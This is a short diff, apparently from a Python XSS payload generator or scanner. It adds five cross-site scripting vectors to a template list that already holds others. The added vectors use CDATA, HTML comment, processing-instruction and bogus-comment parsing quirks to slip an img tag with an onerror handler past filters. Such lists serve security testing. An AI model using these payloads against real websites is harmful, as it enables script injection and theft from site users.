@@ -104,6 +104,11 @@ ${{}}
 \u202e<script>{}</script>
 <!--<img src="--><img src=x onerror={}//">
 <![CDATA[<script>{}</script>]]>
+<![CDATA[><img src=x onerror={}>]]>
+<!--><img src=x onerror={}>-->
+<!---><img src=x onerror={}>-->
+<?x ><img src=x onerror={}>?>
+<!x ><img src=x onerror={}>
 <noembed><img title="</noembed><img src onerror={}>">
 """.strip("\n").split("\n")
 
